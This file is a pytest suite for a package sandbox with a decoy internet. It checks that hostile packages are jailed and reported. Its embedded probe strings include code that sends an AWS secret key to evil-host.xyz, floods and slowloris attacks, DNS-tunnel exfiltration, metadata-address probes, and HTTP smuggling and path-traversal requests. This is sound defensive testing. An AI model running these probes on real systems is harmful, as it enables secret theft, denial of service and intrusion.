"""A package reaches nothing but a read-only view of the index, and every attempt is refused at once
and reported."""

import json
import os
import re
import socket
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from conftest import Serve, Service, Snakehook
from hostile import (
    PROBES,
    add_probe,
    assert_nothing_is_left,
    descendants,
    family_of,
    findings,
    in_one_jail,
    last_json,
    own_phase,
    targets,
)
from standins import Index, Reply, redirect, wait_for


def probe(
    program: Snakehook, index: Index, source: str, **settings: object
) -> tuple[Any, dict[str, Any]]:
    """What a module that begins with hostile.PROBES said when it was imported, and the report;
    nothing is left."""
    add_probe(index, source)
    _, report, _ = program.triage("probe", *in_one_jail(), RUN_TIMEOUT_SEC=20, **settings)
    assert report["outcome"] == "ok", report["reason"]
    nothing_is_left(program)
    return last_json(report), report


def nothing_is_left(program: Snakehook) -> None:
    assert_nothing_is_left(program.state, program.cache)


# Private, link-local, metadata, documentation, loopback and multicast.
ADDRESSES = [
    "10.0.0.1",
    "172.16.0.1",
    "192.168.1.1",
    "169.254.169.254",
    "100.100.100.200",
    "192.0.2.1",
    "127.0.0.2",
    "224.0.0.1",
]
ADDRESSES += ["::1", "fd00:ec2::254", "fe80::1", "2001:db8::1", "::ffff:169.254.169.254"]

# Localhost is not the decoy internet's.
NEAR = ["127.0.0.1", "127.0.0.2", "::1"]

CONNECT = """
def reach(kind, host, port):
    def probe():
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, kind) as sock:
            sock.settimeout(15)
            sock.connect((host, port))
            sock.send(b"stolen")
            sock.recv(10)
    return probe
began = time.monotonic()
probes = {}
for host in HOSTS:
    for name, kind in (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM)):
        probes[f"{name} {host}"] = reach(kind, host, PORT)
probes["abstract"] = lambda: socket.socket(socket.AF_UNIX).connect("\\0NAME")
probes["bus"] = lambda: socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket")
probes["raw"] = lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()
probes["icmp"] = lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
probes["icmp6"] = lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).close()
def ping():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    sock.sendto(b"\\x08" + bytes(7), ("192.0.2.1", 0))
probes["ping"] = ping
def route():
    # Netlink: the jail's own namespace only, and no right to change it.
    sock = socket.socket(16, socket.SOCK_RAW, 0)
    sock.bind((0, 0))
    new_route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)
    sock.send(struct.pack("=IHHII", 28, 24, 5, 1, 0) + new_route)
    answer = sock.recv(4096)
    code = struct.unpack_from("=i", answer, 16)[0]
    if code: raise OSError(-code, "netlink")
probes["route"] = route
results = {name: attempt(what) for name, what in probes.items()}
print(json.dumps({"results": results, "seconds": time.monotonic() - began}))
"""


def test_without_the_decoy_internet_every_try_is_refused_at_once_and_reported(
    program: Snakehook, index: Index
) -> None:
    port = int(index.origin.rpartition(":")[2])  # of a server that does listen on this machine
    with socket.socket(socket.AF_UNIX) as neighbour:
        neighbour.bind("\0snakehook-neighbour")
        neighbour.listen()
        local = {
            info[4][0]
            for info in socket.getaddrinfo(socket.gethostname(), port)
            if isinstance(info[4][0], str)
        }
        source = CONNECT.replace("HOSTS", repr([*ADDRESSES, "127.0.0.1", *local])).replace(
            "PORT", str(port)
        )
        source = source.replace("NAME", "snakehook-neighbour")
        seen, report = probe(program, index, source, DECOY_INTERNET="false")
    assert {
        what: got for what, got in seen["results"].items() if got in ("it worked", "TimeoutError")
    } == {}
    assert seen["seconds"] < 10  # 30 probes that wait would take 15 s each
    reported = targets(report)
    for host in ADDRESSES:
        assert any(host.rpartition(":")[2] in target for target in reported), host
    assert any("snakehook-neighbour" in target for target in reported)
    assert len(findings(report, "network.attempt")) >= len(ADDRESSES)


SEND = """
def send(kind, host):
    def probe():
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, kind) as sock:
            sock.settimeout(15)
            sock.connect((host, PORT))
            sock.send(b"stolen")
    return probe
kinds = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}
tell(**{f"{kind} {host}": send(kinds[kind], host) for kind in kinds for host in HOSTS})
"""


def test_what_the_decoy_internet_takes_reaches_nobody_else(
    program: Snakehook, index: Index
) -> None:
    """A server at every address of this machine hears nothing, and all that was sent is told."""
    with (
        socket.create_server(("", 0)) as streams,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        port = streams.getsockname()[1]
        datagrams.bind(("", port))
        local = {str(info[4][0]) for info in socket.getaddrinfo(socket.gethostname(), port)}
        far = [host for host in [*ADDRESSES, *sorted(local)] if host not in NEAR]
        source = SEND.replace("HOSTS", repr([*far, *NEAR])).replace("PORT", str(port))
        seen, report = probe(program, index, source)
        for server in (streams, datagrams):
            server.setblocking(False)
        with pytest.raises(BlockingIOError):
            streams.accept()
        with pytest.raises(BlockingIOError):
            datagrams.recv(100)
    for host in NEAR:
        assert seen[f"tcp {host}"] == "ECONNREFUSED"
    answered = [host for host in far if seen[f"tcp {host}"] == "it worked"]
    assert {"10.0.0.1", "192.168.1.1", "fd00:ec2::254", "2001:db8::1"} <= {*answered}
    told = {item["target"]: item["payload"] for item in report["network"] if item["payload"]}
    for host in answered:
        plain = host.removeprefix("::ffff:")
        assert {told[target]["text"] for target in told if plain in target} == {"stolen"}, host
    assert len(findings(report, "network.attempt")) >= len(ADDRESSES)


# Each in a thread of its own, all at once, for a few seconds; then what matters.
FLOODS = """
import os, socket, ssl, threading, time, urllib.request
END = time.monotonic() + 3
TARGET = ("45.33.32.156", 80)
COUNTS = {}
def flood(work):
    def go():
        number = 0
        while time.monotonic() < END:
            try:
                work(number)
            except OSError:
                pass
            number += 1
        COUNTS[work.__name__] = number
    threading.Thread(target=go).start()
def connect(target=TARGET):
    return socket.create_connection(target, timeout=2)
@flood
def connections(number):
    for last in range(1, 50):
        with connect((f"45.33.{number % 256}.{last}", 4000 + last)) as sock:
            sock.sendall(b"x")
@flood
def bodies(number):
    with connect() as sock:
        sock.sendall(b"POST / HTTP/1.1\\r\\nContent-Length: 99999999999\\r\\n\\r\\n")
        for _ in range(30):
            sock.sendall(bytes(1 << 20))
@flood
def slow(number):
    held = [connect() for _ in range(50)]
    for sock in held:
        sock.sendall(b"POST / HTTP/1.1\\r\\nContent-Length: 1000\\r\\n\\r\\n")
    time.sleep(0.5)
    for sock in held:
        sock.sendall(b"a")
        sock.close()
@flood
def names(number):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for _ in range(200):
            label = os.urandom(10).hex().encode()
            head = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
            sock.sendto(head + b"\\x14" + label + b"\\4evil\\3xyz\\0\\0\\1\\0\\1", ("8.8.8.8", 53))
@flood
def garbage(number):
    with connect() as sock:
        sock.sendall(b"\\x16\\x03\\x01" + os.urandom(3000))
@flood
def pipelined(number):
    with connect() as sock:
        sock.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n" * 2000)
@flood
def certificates(number):
    context = ssl._create_unverified_context()
    with context.wrap_socket(connect(), server_hostname=f"n{number}.evil-host.xyz") as sock:
        sock.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        sock.recv(9)
for thread in threading.enumerate():
    if thread is not threading.current_thread():
        thread.join()
body = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
print(urllib.request.urlopen("http://last.evil-host.xyz/", body, timeout=20).status, COUNTS)
"""
MAX_WATCH_BYTES = 300 << 20


def peak_bytes(service: Service) -> int:
    """The most memory that any watch of a service has had so far."""
    peaks = [0]
    for pid in family_of(service.process.pid).watches:
        with suppress(OSError):
            # "VmHWM:     51234 kB".
            found = re.search(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text())
            peaks.append(int(found[1]) << 10 if found else 0)
    return max(peaks)


def test_floods_of_the_decoy_internet_cost_no_neighbour_and_no_memory(
    serve: Serve, index: Index
) -> None:
    index.add_wheel("floods", "1.0", {"floods.py": FLOODS})
    # It is at work while the floods come.
    calm_source = "import select\nselect.select([], [], [], 6)\nprint('calm')\n"
    index.add_wheel("calm", "1.0", {"calm.py": calm_source})
    peak = 0
    with serve(MAX_CONCURRENCY=2, RUN_TIMEOUT_SEC=30) as service:
        floods = service.accept("floods", mode="execute_module", module_name="floods")
        calm = service.accept("calm", mode="execute_module", module_name="calm")

        def both_are_finished() -> bool:
            nonlocal peak
            peak = max(peak, peak_bytes(service))
            return all(service.report(run)["status"] == "finished" for run in (floods, calm))

        wait_for(both_are_finished, 150, every_sec=0.1)
        neighbour, report = service.report(calm), service.report(floods)
    assert (neighbour["outcome"], neighbour["verdict"]) == ("ok", "clean"), neighbour["reason"]
    phase = own_phase(report)
    assert phase["stdout"]["text"].startswith("200 "), (report["reason"], phase)
    assert "sends AWS_SECRET_ACCESS_KEY to http://last.evil-host.xyz/" in findings(
        report, "secret.sent"
    )
    assert report["coverage"]["dropped_events"] > 1000
    cut = "\n".join(report["coverage"]["notes"])
    assert "were not kept or looked at" in cut
    assert any("did so much" in title for title in findings(report, "limit.hit"))
    assert 0 < peak < MAX_WATCH_BYTES
    assert len(report["network"]) <= 500
    assert len(report["requests"]) <= 500


TUNNEL = """
import base64
secret = base64.b32encode(b"stolen goods " * 4).decode().strip("=").lower()
name = ".".join(secret[at:at + 40] for at in range(0, len(secret), 40)) + ".tunnel.example"
def question(kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    head = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
    return head + labels + b"\\0\\0" + bytes([kind]) + b"\\0\\1"
def udp(kind):
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(10)
            sock.sendto(question(kind), ("127.0.0.1", 53))
            answer = sock.recv(4096)
            return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
    return ask
def tcp():
    with socket.create_connection(("127.0.0.1", 53), timeout=10) as sock:
        sock.sendall(len(question(16)).to_bytes(2, "big") + question(16))
        answer = sock.recv(4096)[2:]
        return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
def foreign():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(10)
        sock.sendto(question(1), ("192.0.2.53", 53))
        answer = sock.recv(4096)
        return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
print(json.dumps({"name": name, "a": attempt(udp(1)), "txt": attempt(udp(16)), "tcp": attempt(tcp),
                  "foreign": attempt(foreign)}))
"""


def test_dns_carries_nothing_out_and_nothing_in_over_udp_and_tcp(
    program: Snakehook, index: Index
) -> None:
    seen, report = probe(program, index, TUNNEL)
    assert seen["a"] == seen["txt"] == seen["tcp"] == [3, 0]  # NXDOMAIN, without an answer
    assert seen["foreign"] == [3, 0]  # by the same resolver, whatever address was asked
    assert seen["name"] in targets(report, ["dns"])
    assert any("192.0.2.53" in target for target in targets(report))
    assert not [path for _, path in index.requests if "tunnel" in path]


QUESTIONS = [b"", b"\0" * 11, b"\0" * 12, b"\xff" * 4000, b"\0" * 12 + b"\xc0\x0c\0\1\0\1"]


def test_a_malformed_question_does_not_stop_the_resolver(program: Snakehook, index: Index) -> None:
    source = f"""
for question in {QUESTIONS!r}:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(question, ("127.0.0.1", 53))
    with socket.create_connection(("127.0.0.1", 53)) as sock:
        sock.sendall(len(question).to_bytes(2, "big") + question)
tell(after=lambda: socket.getaddrinfo("after.example", 80))
"""
    seen, report = probe(program, index, source)
    assert seen["after"] == "gaierror" or isinstance(seen["after"], str)
    assert "after.example" in targets(report, ["dns"])


ASK = """
def ask(request):
    def probe():
        with socket.create_connection(("127.0.0.1", 3141), timeout=10) as sock:
            sock.sendall(request)
            answer = sock.recv(65536)
            return answer.split()[1].decode() if answer else "closed"
    return probe
"""
REQUESTS = {
    "post": b"POST /simple/calm/ HTTP/1.1\r\nContent-Length: 6\r\n\r\nstolen",
    "put": b"PUT /simple/calm/ HTTP/1.1\r\n\r\n",
    "head": b"HEAD /simple/calm/ HTTP/1.1\r\n\r\n",
    "connect": b"CONNECT attacker.example:443 HTTP/1.1\r\n\r\n",
    "absolute": b"GET http://attacker.example/simple/calm/ HTTP/1.1\r\n\r\n",
    "query": b"GET /simple/calm/?stolen=goods HTTP/1.1\r\n\r\n",
    "fragment": b"GET /simple/calm/#stolen HTTP/1.1\r\n\r\n",
    "body": b"GET /simple/calm/ HTTP/1.1\r\nContent-Length: 6\r\n\r\nstolen",
    "long header": b"GET /simple/calm/ HTTP/1.1\r\nX-Stolen: " + b"x" * 20_000 + b"\r\n\r\n",
    "long name": b"GET /simple/" + b"x" * 300 + b"/ HTTP/1.1\r\n\r\n",
    "up": b"GET /simple/../../etc/passwd HTTP/1.1\r\n\r\n",
    "encoded up": b"GET /simple/%2e%2e/ HTTP/1.1\r\n\r\n",
    "capitals": b"GET /simple/Calm/ HTTP/1.1\r\n\r\n",
    "a file that no page named": b"GET /files/" + b"0" * 64 + b"/calm-1.0.tar.gz HTTP/1.1\r\n\r\n",
    "a file above": b"GET /files/" + b"0" * 64 + b"/../../x HTTP/1.1\r\n\r\n",
    "split": b"GET /simple/calm/\r\nHost: x\r\n\r\n",
    "old": b"GET /simple/calm/ HTTP/1.0\r\n\r\n",
    "nothing": b"\r\n\r\n",
    "not text": b"\xff\x00\xfe\r\n\r\n",
    "not canonical": b"GET /simple/evil--dep/ HTTP/1.1\r\n\r\n",
    "denied": b"GET /simple/evil-dep/ HTTP/1.1\r\n\r\n",
    "smuggled": b"GET /simple/calm/ HTTP/1.1\r\n\r\nGET /simple/evil-dep/ HTTP/1.1\r\n\r\n",
}


def test_the_index_answers_nothing_but_a_plain_get(program: Snakehook, index: Index) -> None:
    index.add_wheel("calm", "1.0", {"calm.py": ""})
    index.add_wheel("evil-dep", "1.0", {"evil.py": ""})
    index.answer("/simple/evil--dep/", redirect("/simple/evil-dep/"))  # as a real index does
    source = (
        PROBES + ASK + f"tell(**{{name: ask(request) for name, request in {REQUESTS!r}.items()}})"
    )
    prelude = f"""
import os
from pathlib import Path
if not os.path.exists("/home/dev/asked"):
    import sys
    sys.stdout = open("/home/dev/asked", "w")
    exec({source!r})
    sys.stdout.close()
    sys.stdout = sys.__stdout__
"""
    index.add_backend_sdist(
        "asker", "1.0", prelude, {"asker.py": "print(open('/home/dev/asked').read())"}
    )
    _, report, _ = program.triage("asker", "--mode", "import", PACKAGE_DENYLIST="Evil.Dep")
    seen = last_json(report)
    smuggled, body = seen.pop("smuggled"), seen.pop("body")
    # The page of a stand-in of our own.
    assert seen.pop("denied") == "200"
    assert {
        what: got for what, got in seen.items() if got not in ("400", "403", "404", "closed")
    } == {}
    assert smuggled in ("400", "closed")
    assert body in ("400", "closed")
    paths = [path for _, path in index.requests]
    # Once, for the versions that the stand-in may have; no file of it is ever asked for.
    assert paths.count("/simple/evil-dep/") == 1
    asked = {*paths} - {"/simple/evil-dep/"}
    assert asked <= {
        "/simple/pip/",
        "/simple/asker/",
        "/simple/calm/",
        "/files/asker-1.0.tar.gz",
    }, asked
    notes = "\n".join(report["coverage"]["notes"])
    for what in ("POST", "PUT", "CONNECT", "stolen=goods", "evil-dep"):
        assert what in notes, what
    nothing_is_left(program)


def test_the_index_is_not_there_when_the_package_runs(program: Snakehook, index: Index) -> None:
    source = ASK + "tell(index=ask(b'GET /simple/probe/ HTTP/1.1\\r\\n\\r\\n'))"
    before = len(index.requests)
    seen, report = probe(program, index, source)
    assert seen == {"index": "ECONNREFUSED"}
    assert "127.0.0.1:3141" in targets(report, ["tcp"])
    assert [path for _, path in index.requests[before:]].count("/simple/probe/") == 1  # pip's own


# What a build gets when it asks for each of the projects, and then for the files that their pages
# name.
READ = """
import http.client, json, os
def get(path):
    connection = http.client.HTTPConnection("127.0.0.1", 3141, timeout=20)
    connection.request("GET", path)
    answer = connection.getresponse()
    return answer.status, answer.read()
if not os.path.exists("/home/dev/got"):
    got = {}
    for name in NAMES:
        status, body = get(f"/simple/{name}/")
        files = json.loads(body)["files"] if status == 200 else []
        got[name] = [status, [get(file["url"])[0] for file in files]]
    with open("/home/dev/got", "w") as file: json.dump(got, file)
"""


def read_by_a_build(
    program: Snakehook, index: Index, names: list[str]
) -> tuple[dict[str, Any], dict[str, Any]]:
    reader = {"reader.py": "print(open('/home/dev/got').read())"}
    index.add_backend_sdist("reader", "1.0", READ.replace("NAMES", repr(names)), reader)
    _, report, _ = program.triage("reader", "--mode", "import")
    nothing_is_left(program)
    assert [download["file"] for download in report["downloads"]] == ["reader-1.0.tar.gz"]
    return last_json(report), report


LOCATIONS = [
    "http://127.0.0.1:9/elsewhere",
    "file:///etc/passwd",
    "//169.254.169.254/",
    "http://[",
    "ftp://127.0.0.1/",
]


def test_a_redirect_to_elsewhere_is_refused(program: Snakehook, index: Index) -> None:
    names = [f"{what}-{number}" for what in ("page", "file") for number in range(len(LOCATIONS))]
    for name in names:
        index.add_wheel(name, "1.0", {f"{name.replace('-', '_')}.py": ""})
        index.entry(name, core_metadata=None)
        path = (
            f"/simple/{name}/"
            if "page" in name
            else f"/files/{name.replace('-', '_')}-1.0-py3-none-any.whl"
        )
        index.answer(path, redirect(LOCATIONS[int(name[-1])]))
    seen, report = read_by_a_build(program, index, names)
    for name, (page, files) in seen.items():
        assert (page, files) in ((403, []), (502, []), (200, [403]), (200, [502])), name
        assert (page == 200) == name.startswith("file"), name
    assert len([note for note in report["coverage"]["notes"] if "refused" in note]) >= len(names)


ODD_FILES: list[dict[str, Any]] = [
    {"filename": "../../lured-1.0-py3-none-any.whl"},
    {"filename": "..", "url": "/files/lured-1.0-py3-none-any.whl"},
    {"filename": "lured-1.0-py3-none-any.whl/../x"},
    {"filename": "lured-1.0\n-py3-none-any.whl"},
    {"url": "http://127.0.0.1:9/files/lured-1.0-py3-none-any.whl"},
    {"url": "http://user@127.0.0.1:9/x"},
    {"url": "file:///etc/passwd"},
    {"hashes": {"sha256": "0" * 63}},
    {"hashes": {"sha256": "../" * 21 + "x"}},
    {"hashes": {"md5": "0" * 32}},
]


def test_a_file_with_an_odd_name_host_or_hash_is_not_offered(
    program: Snakehook, index: Index
) -> None:
    names = [f"lured-{number}" for number in range(len(ODD_FILES))]
    for name, fields in zip(names, ODD_FILES, strict=True):
        index.add_wheel(name, "1.0", {f"{name.replace('-', '_')}.py": ""}).update(fields)
    seen, report = read_by_a_build(program, index, names)
    assert seen == {name: [200, []] for name in names}
    assert [note for note in report["coverage"]["notes"] if "bad link" in note]


def test_a_wrong_sha256_is_reported_and_leaves_nothing_in_the_cache(
    jail: None, snakehook: Snakehook, index: Index
) -> None:
    index.add_wheel("swapped", "1.0", {"swapped.py": ""})
    index.entry("swapped", core_metadata=None)
    index.answer("/files/swapped-1.0-py3-none-any.whl", Reply(200, b"another file"))
    _, report, _ = snakehook.triage("swapped", RUN_TIMEOUT_SEC=20)
    assert (report["outcome"], report["downloads"]) == ("failed", [])
    assert any("sha256" in note for note in report["coverage"]["notes"])
    assert not [path for path in snakehook.cache.rglob("*") if path.is_file()]


@pytest.mark.parametrize(
    "how", ["a dependency of a dependency", "an extra", "a build requirement", "a direct link"]
)
def test_the_denylist_holds_for_what_is_pulled_in_however_it_is_spelled(
    jail: None, snakehook: Snakehook, index: Index, how: str
) -> None:
    index.add_wheel("evil-dep", "1.0", {"evil.py": ""})
    match how:
        case "a dependency of a dependency":
            index.add_wheel("middle", "1.0", {"middle.py": ""}, requires=["EVIL_.-dep>=0"])
            index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=["middle"])
        case "an extra":
            extra = {"Provides-Extra": "more"}
            index.add_wheel(
                "middle",
                "1.0",
                {"middle.py": ""},
                requires=["Evil.Dep; extra == 'more'"],
                metadata=extra,
            )
            index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=["middle[more]"])
        case "a build requirement":
            project = '[build-system]\nrequires = ["EVIL__dep"]\n'
            project += 'build-backend = "backend"\nbackend-path = ["."]\n'
            index.add_sdist(
                "outer", "1.0", {"pyproject.toml": project, "backend.py": "", "outer.py": ""}
            )
        case "a direct link":
            link = f"evil-dep @ {index.origin}/files/evil_dep-1.0-py3-none-any.whl"
            index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=[link])
    _, report, _ = snakehook.triage("outer", PACKAGE_DENYLIST="Evil_Dep", RUN_TIMEOUT_SEC=20)
    # A stand-in takes its place; a link of its own leads nowhere, and a backend of nothing fails.
    is_replaced = how in ("a dependency of a dependency", "an extra")
    assert report["outcome"] == ("ok" if is_replaced else "failed")
    assert report["verdict"] == "unseen"
    assert not [download for download in report["downloads"] if "evil" in download["file"]]
    assert not [path for _, path in index.requests if path.startswith("/files/evil")]
    if how != "a direct link":
        assert "evil-dep is on the denylist" in "\n".join(
            [report["reason"], *report["coverage"]["notes"]]
        )
    nothing_is_left(snakehook)


# Two of them are built side by side, each with the index and the decoy internet of its own run.
# Each listens, and tries whatever is the other's, the service's or the machine's when it is told.
TWIN = """
import errno, http.client, json, os, socket, sys, time, urllib.request
OWN, OTHER, HOSTS, PORTS, DEADLINE = "@OWN@", "@OTHER@", @HOSTS@, @PORTS@, time.monotonic() + 40
NEAR = ("127.0.0.1", "::1", "10.0.2.15")
def until(path):
    while not os.path.exists(path) and time.monotonic() < DEADLINE:
        time.sleep(0.02)
def attempt(work):
    try:
        return work()
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)
def local(name):
    held = socket.socket(socket.AF_UNIX)
    held.connect(name)
def reach(host, port):
    with socket.create_connection((host, port), timeout=10) as sock:
        if host in NEAR:
            return "open"
        sock.sendall(b"GET /healthz HTTP/1.0\\r\\n\\r\\n")
        return sock.recv(4096).decode()
def index_says(project):
    connection = http.client.HTTPConnection("127.0.0.1", 3141, timeout=10)
    connection.request("GET", f"/simple/{project}/")
    return connection.getresponse().status
def world(name):
    with urllib.request.urlopen(f"http://{name}.evil-twin.xyz/secret", timeout=10) as answer:
        return answer.read().decode()
if not os.path.exists("/tmp/ready"):
    port, other = PORTS[OWN], PORTS[OTHER]
    streams = socket.create_server(("0.0.0.0", port))
    sixes = socket.create_server(("::", port), family=socket.AF_INET6)
    named = socket.socket(socket.AF_UNIX)
    named.bind("\\0twin-" + OWN)
    named.listen()
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("0.0.0.0", port))
    open("/tmp/ready", "w").close()
    until("/tmp/go")
    got = {f"{host} {name}": attempt(lambda: reach(host, number)) for host in HOSTS
           for name, number in PORTS.items()}
    got |= {name: attempt(lambda: local(name)) for name in ("\\0twin-" + OTHER, "\\0machine")}
    far = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for host in HOSTS:
        for number in PORTS.values():
            attempt(lambda: far.sendto(b"stolen", (host, number)))
    got["index"] = [index_says("asked-by-" + OWN), index_says("twin-" + OWN)]
    got["same"] = socket.gethostbyname("same.evil-twin.xyz")
    got["world"] = world(OWN)
    with open("/tmp/tried", "w") as file:
        file.write(json.dumps(got))
    until("/tmp/end")
    arrived = []
    own = {sock: sock.type for sock in (streams, sixes, named, datagrams)}
    for sock, kind in own.items():
        sock.setblocking(False)
        try:
            while True:
                what = sock.accept()[1] if kind == socket.SOCK_STREAM else sock.recv(9).decode()
                arrived.append(repr(what))
        except BlockingIOError:
            pass
    with open("/tmp/arrived", "w") as file:
        file.write(json.dumps(arrived))
    until("/tmp/left")
"""


def jailed_roots() -> dict[str, Path]:
    """The root folder of each jail that is open now, by the name of its host."""
    roots = {}
    for process in descendants():
        root = Path(f"/proc/{process.pid}/root")
        if process.is_jailed:
            with suppress(OSError):
                roots[(root / "etc/hostname").read_text()] = root
    return roots


def has_each(name: str) -> bool:
    """Whether two jails have this file in /tmp."""
    with suppress(OSError):
        return sum((root / "tmp" / name).exists() for root in jailed_roots().values()) == 2
    return False


def give_each(name: str) -> None:
    for root in jailed_roots().values():
        (root / "tmp" / name).touch()


def texts(name: str) -> list[Any]:
    return [json.loads((root / "tmp" / name).read_text()) for root in jailed_roots().values()]


@pytest.mark.skipif(os.geteuid() != 0, reason="looks into the jails")
def test_there_is_no_way_to_another_run_the_service_or_the_machine(
    serve: Serve, index: Index
) -> None:
    """Each of two runs has addresses, ports, names, certificates and an index for itself alone."""
    with (
        socket.create_server(("", 0)) as streams,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
        socket.socket(socket.AF_UNIX) as named,
        serve(MAX_CONCURRENCY=2, RUN_TIMEOUT_SEC=60) as service,
    ):
        port = streams.getsockname()[1]
        datagrams.bind(("", port))
        named.bind("\0machine")
        named.listen()
        index_port = int(index.origin.rpartition(":")[2])
        ports = {"left": 41001, "right": 41002, "service": service.port}
        ports |= {"machine": port, "real index": index_port}
        own = {str(info[4][0]) for info in socket.getaddrinfo(socket.gethostname(), port)}
        hosts = ["127.0.0.1", "::1", "10.0.2.15", *sorted(own - {"127.0.0.1", "127.0.1.1", "::1"})]
        runs = {}
        for name, other in (("left", "right"), ("right", "left")):
            source = TWIN.replace("@OWN@", name).replace("@OTHER@", other)
            source = source.replace("@HOSTS@", repr(hosts)).replace("@PORTS@", repr(ports))
            index.add_backend_sdist(f"twin-{name}", "1.0", source, {f"twin_{name}.py": ""})
            runs[name] = service.accept(f"twin-{name}", mode="install")
        wait_for(lambda: has_each("ready"), 40, every_sec=0.1)
        give_each("go")
        wait_for(lambda: has_each("tried"), 40, every_sec=0.1)
        tried = texts("tried")
        give_each("end")
        wait_for(lambda: has_each("arrived"), 40, every_sec=0.1)
        arrived = texts("arrived")
        give_each("left")
        reports = {name: service.finished(run, 60) for name, run in runs.items()}
        for server in (streams, named):
            server.setblocking(False)
            with pytest.raises(BlockingIOError):
                server.accept()
        datagrams.setblocking(False)
        with pytest.raises(BlockingIOError):
            datagrams.recv(9)
    for got in tried:
        for near in ("127.0.0.1", "::1", "10.0.2.15"):
            # Its own port is open here, and neither the other's, the service's nor the machine's.
            answers = sorted(got[f"{near} {what}"] for what in ports)
            assert answers == ["ECONNREFUSED"] * (len(ports) - 1) + ["open"]
        far = [got[what] for what in got if what.partition(" ")[0] in hosts[3:]]
        assert all("Server: nginx" in answer for answer in far), far
        assert got["\0machine"] == "ECONNREFUSED"
        assert [got[name] for name in got if name.startswith("\0twin-")] == ["ECONNREFUSED"]
        assert got["index"][1] == 200
    assert tried[0]["same"] != tried[1]["same"]
    assert tried[0]["world"] != tried[1]["world"]
    # What each sent to its own ports is all that came to them.
    assert [len(what) for what in arrived] == [5, 5], arrived
    for name, other in (("left", "right"), ("right", "left")):
        report = reports[name]
        assert report["outcome"] == "ok", report["reason"]
        urls = [request["url"] for request in report["requests"]]
        assert f"http://{name}.evil-twin.xyz/secret" in urls
        said = json.dumps(report)
        assert f"{other}.evil-twin.xyz" not in said
        assert f"asked-by-{other}" not in said
